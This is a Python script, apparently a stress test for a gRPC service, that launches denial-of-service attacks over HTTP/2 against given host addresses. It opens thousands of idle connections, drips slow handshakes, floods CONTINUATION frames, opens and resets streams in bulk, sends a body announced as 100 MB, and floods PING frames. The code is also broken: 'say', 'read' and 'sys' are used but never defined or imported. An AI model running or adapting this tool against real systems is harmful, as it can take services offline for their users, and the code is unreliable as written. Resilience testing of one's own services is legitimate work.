"""Strangers by the thousand, slow ones, endless ones: how long each is borne, as bytes on a wire.

`KIND FLEET FRONT TOKEN KEY CERT`: all attacks of a kind (crowd, slow, pushed) at once. TOKEN and the host's key are files that
only those have who are in already. Addresses are HOST:PORT.
"""

import resource
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, PING, CONTINUATION, DATA = 1, 3, 4, 6, 9, 0
WATCH = 45
CROWD = 2000


def place(address):
    host, port = address.rsplit(":", 1)
    return host, int(port)


def trusting(alpn=True, key=None, cert=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(["h2"])
    if key:
        context.load_cert_chain(cert, key)
    return context


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that is in no table (RFC 7541, 6.2.2), its name and value as they are."""

    def text(part):
        size = len(part)
        if size < 127:
            return bytes([size]) + part
        size, head = size - 127, b"\x7f"
        while size >= 128:
            head, size = head + bytes([size % 128 + 128]), size // 128
        return head + bytes([size]) + part

    return b"\x00" + text(name) + text(value)


def called(path, token=None):
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", b"x"), (b"te", b"trailers")]
    fields += [(b"content-type", b"application/grpc")]
    fields += [(b"authorization", b"Bearer " + token)] if token else []
    return b"".join(literal(name, value) for name, value in fields)


def lasts(sockets, until=WATCH):
    """Seconds after which the other side has let go of each since it was opened; None: it has not."""
    ends, limit = [None] * len(sockets), time.monotonic() + until
    while time.monotonic() < limit and None in ends:
        for at, (one, began) in enumerate(sockets):
            if ends[at] is None:
                one.settimeout(0)
                try:
                    if one.recv(65536) == b"":
                        ends[at] = time.monotonic() - began
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    ends[at] = time.monotonic() - began
        time.sleep(0.02)
    return ends


def dial(address):
    return socket.create_connection(place(address), timeout=20)


def shake(address, **how):
    raw = dial(address)
    try:
        return trusting(**how).wrap_socket(raw)
    except OSError:
        return None


def summed(name, ends):
    known = sorted(end for end in ends if end is not None)
    say(attack=name, n=len(ends), cut=len(known), first=known[0] if known else None, last=known[-1] if known else None)


def crowd(name, address):
    """Thousands of connections that say nothing."""
    all_of_them = []
    for _ in range(CROWD):
        began = time.monotonic()
        try:
            all_of_them.append((dial(address), began))
        except OSError:
            break
    summed(name, lasts(all_of_them))


def slow(name, address, opened, text, pause):
    """Bytes of something that is right so far, one now and then."""
    began, ends = time.monotonic(), []

    def one():
        line = opened(address)
        if line is None:
            ends.append(time.monotonic() - began)
            return
        end = None
        for at in range(int(WATCH / pause)):
            try:
                line.sendall(text[at : at + 1])
                line.settimeout(pause)
                if line.recv(65536) == b"":
                    end = time.monotonic() - began
                    break
            except (TimeoutError, ssl.SSLWantReadError):
                continue
            except OSError:
                end = time.monotonic() - began
                break
        ends.append(end)

    threads = [threading.Thread(target=one) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    summed(name, ends)


def pushed(name, address, chunks, **how):
    """Sends without end what the other side must not keep; how much it bore, and for how long."""
    line, began, sent, why = shake(address, **how), time.monotonic(), 0, None
    if line is None:
        say(attack=name, bytes=0, seconds=0, cut="at the door")
        return
    line.settimeout(WATCH)
    # What is answered is thrown away, so that it stands in nobody's way.
    heard = [0]
    line.setblocking(False)
    try:
        for chunk in chunks():
            view = memoryview(chunk)
            while view:
                if time.monotonic() - began > 20:
                    raise TimeoutError("borne for 20 s")
                try:
                    n = line.send(view)
                    sent, view = sent + n, view[n:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    time.sleep(0.002)
                try:
                    got = line.recv(1 << 20)
                    heard[0] += len(got)
                    if got == b"":
                        raise ConnectionError("closed")
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
        why = "all was sent"
    except TimeoutError as error:
        why = str(error)
    except OSError as error:
        why = type(error).__name__
    line.close()
    say(attack=name, bytes=sent, answered=heard[0], seconds=time.monotonic() - began, cut=why)


def endless_headers(path):
    def chunks():
        yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, called(path))
        more = frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 16000))
        # More than a hundred megabytes of one block.
        for _ in range(7000):
            yield more

    return chunks


def many_streams(path, token=None, resets=False, rounds=50_000):
    def chunks():
        yield PREFACE + frame(SETTINGS, 0, 0)
        block = called(path, token)
        for number in range(rounds):
            stream = 2 * number + 1
            # The body never ends.
            both = frame(HEADERS, 4, stream, block)
            yield both + (frame(RST, 0, stream, struct.pack(">I", 8)) if resets else b"")

    return chunks


def endless_body(path, token):
    def chunks():
        yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, called(path, token))
        # A message of 100 MB, it says.
        yield frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 100 << 20))
        for _ in range(7000):
            yield frame(DATA, 0, 1, b"z" * 16000)

    return chunks


def pings():
    yield PREFACE + frame(SETTINGS, 0, 0)
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100
        yield frame(SETTINGS, 0, 0) * 100


def flood(kind, fleet, front, token, key, cert):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    token = read(token).strip()
    host = {"key": key, "cert": cert}
    runs, session = b"/fracas.v1.Operator/StartRun", b"/fracas.v1.Fleet/Session"
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 600
    attacks = [
        (crowd, "silent crowd at the fleet's door", fleet),
        (crowd, "silent crowd at the front door", front),
        (slow, "slow hello at the fleet's door", fleet, dial, hello, 0.5),
        (slow, "slow hello at the front door", front, dial, hello, 0.5),
        (slow, "slow preface at the front door", front, shake, PREFACE * 9, 1.0),
        (slow, "slow preface at the fleet's door", fleet, shake, PREFACE * 9, 1.0),
        (pushed, "headers without end", front, endless_headers(runs)),
        (pushed, "headers without end, as a host", fleet, endless_headers(session), host),
        (pushed, "streams without end", front, many_streams(runs)),
        (pushed, "streams without end, with a token", front, many_streams(runs, token)),
        (pushed, "streams opened and reset", front, many_streams(runs, token, True)),
        (pushed, "sessions without end, as a host", fleet, many_streams(session), host),
        (pushed, "a message of 100 MB", front, endless_body(runs, token)),
        (pushed, "a message of 100 MB, as a host", fleet, endless_body(session, None), host),
        (pushed, "pings and settings", front, pings),
    ]
    threads = []
    for attack, *words in [one for one in attacks if one[0].__name__ == kind]:
        how = words.pop() if isinstance(words[-1], dict) else {}
        threads.append(threading.Thread(target=attack, args=words, kwargs=how))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    say(done=True)


flood(*sys.argv[1:])
